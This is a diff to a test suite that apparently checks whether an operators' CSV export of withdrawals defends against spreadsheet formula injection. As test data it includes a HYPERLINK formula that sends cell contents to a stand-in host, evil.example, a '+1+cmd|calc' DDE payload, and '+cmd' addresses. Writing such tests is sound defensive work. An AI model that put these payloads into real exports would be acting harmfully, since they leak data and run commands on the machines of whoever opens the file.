@@ -11,7 +11,8 @@ const evil = '=HYPERLINK("https://evil.example?"&A1,"open")';
 const secret = 'a secret of a test';
 const provider = { secret, name: '+1+cmd|calc', apiKey: '1', isEnabled: true };
 await site.call('PUT', '/api/admin/providers/cpx', { as, body: provider });
-await site.call('PUT', '/api/admin/payment-methods/paypal', { as, body: { isEnabled: true } });
+for (const method of ['litecoin', 'paypal'])
+  await site.call('PUT', `/api/admin/payment-methods/${method}`, { as, body: { isEnabled: true } });
 
 const evilMember = async (options: Parameters<typeof site.member>[0]) => {
   const member = await site.member(options);
@@ -51,12 +52,16 @@ describe('the operators’ withdrawals as CSV', () => {
       for (let requests = 0; requests < 5; requests += 1) {
         const body = {
           amountPoints: '1000',
-          method: 'paypal',
-          recipientInfo: { address: `+cmd${requests}@example.com` },
+          method: 'litecoin',
+          recipientInfo: { address: 'ltc1qw508d6qejxtdg4y5r3zarvary0c5xw7kgmn4n9' },
         };
         assert.equal((await site.call('POST', '/api/withdrawal', { as: member, body })).status, 201);
       }
     }
+    // Requests by a method that wrote addresses like formulas.
+    await site.owner.rows(sql`
+      update withdrawals.withdrawals
+      set method = 'paypal', destination = '+cmd' || member_number - 1 || '@example.com' where state = 'pending'`);
     const ids = (
       await site.owner.rows<{ id: string }>(sql`
       select id::text as id from withdrawals.withdrawals where state = 'pending'`)
